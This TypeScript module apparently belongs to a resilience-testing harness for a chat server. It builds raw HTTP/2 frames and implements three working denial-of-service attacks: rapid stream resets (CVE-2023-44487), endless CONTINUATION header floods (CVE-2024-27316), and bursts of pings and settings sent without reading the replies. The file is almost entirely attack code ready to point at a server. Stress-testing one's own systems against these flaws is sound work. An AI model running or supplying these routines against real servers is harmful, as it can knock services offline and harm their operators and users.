import type { Target } from "../target.ts";

/** What every HTTP/2 connection begins with (RFC 9113, section 3.4), and empty settings. */
const PREFACE = new TextEncoder().encode("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const SETTINGS = frame(4, 0, 0, new Uint8Array());
const FLAG_END_STREAM = 1;
const FLAG_END_HEADERS = 4;

/** Makes a frame of HTTP/2 (RFC 9113, section 4.1). */
function frame(type: number, flags: number, stream: number, payload: Uint8Array): Uint8Array {
  const bytes = new Uint8Array(9 + payload.length);
  const view = new DataView(bytes.buffer);
  view.setUint32(0, payload.length << 8 | type);
  view.setUint8(4, flags);
  view.setUint32(5, stream);
  bytes.set(payload, 9);
  return bytes;
}

/** Asks and takes it back at once, on many streams (CVE-2023-44487). */
export async function rapidResets(target: Target): Promise<void> {
  const path = new TextEncoder().encode("/rooms/one/messages?limit=100");
  // GET and http from the static table, and a path of our own (RFC 7541, 6.1 and 6.2.2).
  const head = new Uint8Array([0x82, 0x86, 0x04, path.length, ...path]);
  const cancel = new Uint8Array([0, 0, 0, 8]);
  await target.repeat("rapid reset", { times: 8, pauseMs: 50 }, async () => {
    using connection = await target.connect();
    const isCut = readAll(connection);
    await connection.write(PREFACE);
    await connection.write(SETTINGS);
    for (let i = 0; i < 300 && !target.isOver && !isCut(); i++) {
      const parts: Uint8Array[] = [];
      for (let k = 0; k < 10; k++) {
        const stream = 2 * (10 * i + k) + 1;
        parts.push(frame(1, FLAG_END_STREAM | FLAG_END_HEADERS, stream, head));
        parts.push(frame(3, 0, stream, cancel));
      }
      const bytes = new Uint8Array(parts.flatMap((part) => [...part]));
      await target.upload(bytes.length);
      await connection.write(bytes);
      await target.rest(5);
    }
  });
}

/** Reads whatever comes; returns whether the connection has ended. */
function readAll(connection: Deno.TcpConn): () => boolean {
  let isCut = false;
  const read = async () => {
    const buffer = new Uint8Array(16_384);
    try {
      while (await connection.read(buffer) !== null);
    } catch {
      // It was cut, by the hub or by us.
    }
    isCut = true;
  };
  void read();
  return () => isCut;
}

/** Begins headers that go on and on (CONTINUATION, CVE-2024-27316). */
export async function continuations(target: Target): Promise<void> {
  // A literal header field without indexing, its name and value as they are (RFC 7541, 6.2.2).
  const value = "y".repeat(100);
  const field = new Uint8Array([0, 1, 120, value.length, ...new TextEncoder().encode(value)]);
  const block = new Uint8Array(16_000);
  for (let at = 0; at + field.length <= block.length; at += field.length) block.set(field, at);
  const whole = block.subarray(0, Math.floor(block.length / field.length) * field.length);
  await target.repeat("continuation", { times: 8, pauseMs: 50 }, async () => {
    using connection = await target.connect();
    const isCut = readAll(connection);
    await connection.write(PREFACE);
    await connection.write(SETTINGS);
    // GET, http and /, from the static table.
    const start = new Uint8Array([0x82, 0x86, 0x84]);
    await connection.write(frame(1, FLAG_END_STREAM, 1, start));
    for (let i = 0; i < 2_000 && !target.isOver && !isCut(); i++) {
      await target.upload(whole.length);
      await connection.write(frame(9, 0, 1, whole));
    }
    await connection.write(frame(9, FLAG_END_HEADERS, 1, new Uint8Array()));
  });
}

/** Sends settings and pings that have to be answered, and does not read the answers. */
export async function unreadPings(target: Target): Promise<void> {
  const one = frame(6, 0, 0, new Uint8Array(8));
  const bytes = new Uint8Array(500 * (one.length + SETTINGS.length));
  for (let i = 0; i < 500; i++) {
    bytes.set(one, i * (one.length + SETTINGS.length));
    bytes.set(SETTINGS, i * (one.length + SETTINGS.length) + one.length);
  }
  await target.repeat("unread HTTP/2 pings", { times: 4, pauseMs: 100 }, async () => {
    using connection = await target.connect();
    await connection.write(PREFACE);
    await connection.write(SETTINGS);
    for (let i = 0; i < 2_000 && !target.isOver; i++) {
      await target.upload(bytes.length);
      await Promise.race([connection.write(bytes), target.rest(5_000)]);
    }
  });
}
